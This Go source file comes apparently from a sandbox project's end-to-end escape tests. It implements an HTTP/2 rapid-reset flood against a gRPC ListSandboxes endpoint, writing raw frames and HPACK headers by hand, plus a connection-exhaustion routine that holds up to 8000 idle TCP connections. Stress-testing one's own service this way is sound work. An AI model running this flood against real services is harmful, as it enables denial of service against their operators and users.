package load

import (
	"bufio"
	"context"
	"crypto/tls"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"sync"
	"sync/atomic"
	"time"

	"github.com/fast-sandbox/fast-sandbox/tests/e2e/escape/internal/attack"
)

const (
	floodConnections = 8
	dialTimeout      = 2 * time.Second
	maxConnections   = 8000
)

// flood opens streams of HTTP/2 and resets them at once, as fast as the connection takes them. Its arguments are `tls` or
// `plain`, and an address. Count is the number of streams.
func flood(ctx context.Context, _ *output, _ *attack.Env, args []string) (int64, error) {
	if len(args) != 2 {
		return 0, fmt.Errorf("flooding: want tls or plain and an address, have %q", args)
	}
	var streams atomic.Int64
	var last atomic.Value
	var workers sync.WaitGroup
	for range floodConnections {
		workers.Go(func() {
			for ctx.Err() == nil {
				if err := floodOnce(ctx, args[0] == "tls", args[1], &streams); err != nil {
					last.Store(err.Error())
					wait(ctx, 10*time.Millisecond)
				}
			}
		})
	}
	workers.Wait()
	if text, ok := last.Load().(string); ok && streams.Load() == 0 {
		return 0, errors.New(text)
	}
	return streams.Load(), nil
}

func dial(ctx context.Context, encrypted bool, address string) (net.Conn, error) {
	ctx, cancel := context.WithTimeout(ctx, dialTimeout)
	defer cancel()
	if !encrypted {
		return (&net.Dialer{}).DialContext(ctx, "tcp", address)
	}
	d := tls.Dialer{Config: &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}, MinVersion: tls.VersionTLS12}}
	return d.DialContext(ctx, "tcp", address)
}

func floodOnce(ctx context.Context, encrypted bool, address string, streams *atomic.Int64) error {
	conn, err := dial(ctx, encrypted, address)
	if err != nil {
		return err
	}
	defer func() { _ = conn.Close() }()
	stop := context.AfterFunc(ctx, func() { _ = conn.Close() })
	defer stop()
	go func() { _, _ = io.Copy(io.Discard, conn) }() // ends with the connection
	w := bufio.NewWriterSize(conn, 64<<10)
	if _, err := w.WriteString("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"); err != nil {
		return err
	}
	if err := writeFrame(w, frameSettings, 0, 0, nil); err != nil {
		return err
	}
	request := requestHeaders(address)
	for id := uint32(1); id < 1<<30 && ctx.Err() == nil; id += 2 {
		if err := writeFrame(w, frameHeaders, flagEndHeaders, id, request); err != nil {
			return err
		}
		if err := writeFrame(w, frameReset, 0, id, []byte{0, 0, 0, 8}); err != nil { // CANCEL
			return err
		}
		streams.Add(1)
	}
	return w.Flush()
}

// Frames of HTTP/2 (RFC 9113, section 6).
const (
	frameHeaders   = 1
	frameReset     = 3
	frameSettings  = 4
	flagEndHeaders = 4
)

func writeFrame(w io.Writer, kind, flags byte, stream uint32, payload []byte) error {
	header := make([]byte, 9, 9+len(payload))
	binary.BigEndian.PutUint32(header, uint32(len(payload))<<8)
	header[3], header[4] = kind, flags
	binary.BigEndian.PutUint32(header[5:], stream)
	_, err := w.Write(append(header, payload...))
	return err
}

// requestHeaders returns the headers of a gRPC call as HPACK (RFC 7541): names of the static table, values as they are.
func requestHeaders(authority string) []byte {
	literal := func(out []byte, index byte, value string) []byte {
		return append(append(out, 0x40|index, byte(len(value))), value...)
	}
	out := []byte{0x83, 0x87}                                                     // :method POST, :scheme https
	out = literal(out, 4, "/fastsandbox.sandbox.v1.SandboxService/ListSandboxes") // :path
	out = literal(out, 1, authority)                                              // :authority
	out = literal(out, 31, "application/grpc")                                    // content-type
	return append(append(out, 0x40, 2, 't', 'e', 8), "trailers"...)               // a new name
}

// connections opens connections and sends nothing. Its argument is an address. Count is the number that were open at once.
func connections(ctx context.Context, o *output, _ *attack.Env, args []string) (int64, error) {
	if len(args) != 1 {
		return 0, fmt.Errorf("opening connections: want an address, have %q", args)
	}
	var held []net.Conn
	defer func() {
		for _, c := range held {
			_ = c.Close()
		}
	}()
	for ctx.Err() == nil && len(held) < maxConnections {
		conn, err := dial(ctx, false, args[0])
		if err != nil {
			o.line(Line{Kind: KindCount, Count: int64(len(held)), Text: err.Error()})
			break
		}
		held = append(held, conn)
	}
	<-ctx.Done()
	return int64(len(held)), nil
}
